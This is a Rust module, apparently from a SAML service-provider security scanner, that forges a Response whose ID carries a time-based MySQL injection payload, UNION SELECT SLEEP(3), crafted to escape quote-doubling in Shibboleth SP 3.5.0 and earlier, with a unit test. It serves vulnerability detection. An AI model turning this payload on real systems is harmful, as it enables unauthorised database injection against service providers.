//! Injection: SAML fields an SP pastes into another language's text (SQL) before it checks
//! any signature, each probed with a delay the injected code asks for and timed against a
//! yardstick of the same shape asking for none.

use std::time::Duration;

use saml_protocol::PROTOCOL_NS;

use crate::bytes::{self, attr_value, Doc};
use crate::check::{Burden, SAME_WORK_RATIO};
use crate::family::dos::encoded;
use crate::forge::{Forge, Skip};

/// The seconds the injected `SLEEP()` asks MySQL for.
pub const SQL_SLEEP_SECONDS: u32 = 3;

/// How much longer than its round's yardstick every injected post must take to count: the
/// delay asked for, less a second for a database that starts timing late.
pub const SQL_SLEEP_FLOOR: Duration = Duration::from_secs(SQL_SLEEP_SECONDS as u64 - 1);

/// The longest key Shibboleth SP's storage looks up as it is (a longer one is hashed first,
/// and the hash carries no SQL).
const LONGEST_KEY: usize = 255;

/// What follows the Response's own ID: a backslash and two quotes end a MySQL string literal
/// whether the SP doubles quotes (Shibboleth SP ≤ 3.5.0: `\''''` is an escaped quote, an
/// escaped quote, then the end) or escapes nothing (`\''`); escaping backslashes too, or
/// binding the value, keeps it all inside the literal. `UNION SELECT` runs the function once
/// and returns the one column a `SELECT version` look-up expects; `-- -` comments out the
/// rest of the query.
fn sql_tail(seconds: u32) -> String {
    format!("\\'' UNION SELECT SLEEP({seconds})-- -")
}

/// The IdP's own response with SQL after its Response's ID (unsigned where Entra signs only
/// the Assertion, and read by a replay cache before any signature check): burden
/// `SLEEP(3)`, yardstick `SLEEP(0)`, the same bytes but one digit.
pub fn response_id_sql(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let root = doc.root();
    let id = root
        .has_tag_name((PROTOCOL_NS, "Response"))
        .then(|| attr_value(root, "ID"))
        .flatten()
        .ok_or_else(|| Skip::NotApplicable("the message is not a Response with an ID".into()))?;
    // Room for the tail within the longest key looked up as it is.
    let room = LONGEST_KEY - sql_tail(SQL_SLEEP_SECONDS).len();
    let own = &doc.src[id.clone()];
    let own = own
        .char_indices()
        .nth(room)
        .map_or(own, |(end, _)| &own[..end]);
    // In an attribute written between single quotes, the tail's quotes are references.
    let single_quoted = doc.src[..id.start].ends_with('\'');
    let with = |seconds: u32| {
        let tail = sql_tail(seconds);
        let tail = match single_quoted {
            true => tail.replace('\'', "&apos;"),
            false => tail,
        };
        bytes::splice(doc.src, vec![(id.clone(), format!("{own}{tail}"))])
    };
    let burden = with(SQL_SLEEP_SECONDS);
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden,
        yardstick: encoded(with(0)),
        yardstick_is: "the same ID asking for SLEEP(0)",
        ratio: SAME_WORK_RATIO,
        floor: SQL_SLEEP_FLOOR,
        // Outside the signed Assertion: a vulnerable SP signs the user in, only late.
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: true,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn id_of(burden: &Burden) -> String {
        use base64::Engine;
        let xml = base64::engine::general_purpose::STANDARD
            .decode(&burden.encoded)
            .unwrap();
        let xml = String::from_utf8(xml).unwrap();
        let doc = roxmltree::Document::parse(&xml).unwrap();
        doc.root_element().attribute("ID").unwrap().to_owned()
    }

    fn burden_of(seed: &str) -> Burden {
        response_id_sql(&Forge::bare(seed)).unwrap()
    }

    #[test]
    fn the_tail_follows_the_id_in_either_quoting_and_the_key_stays_short() {
        let tail = sql_tail(SQL_SLEEP_SECONDS);
        let ns = PROTOCOL_NS;
        let double = format!(r#"<samlp:Response xmlns:samlp="{ns}" ID="_abc"/>"#);
        assert_eq!(id_of(&burden_of(&double)), format!("_abc{tail}"));
        let single = format!(r#"<samlp:Response xmlns:samlp="{ns}" ID='_abc'/>"#);
        assert_eq!(id_of(&burden_of(&single)), format!("_abc{tail}"));
        let long = format!(
            r#"<samlp:Response xmlns:samlp="{ns}" ID="_{}"/>"#,
            "a".repeat(300)
        );
        let id = id_of(&burden_of(&long));
        assert_eq!(id.len(), LONGEST_KEY);
        assert!(id.ends_with(&tail));
    }
}
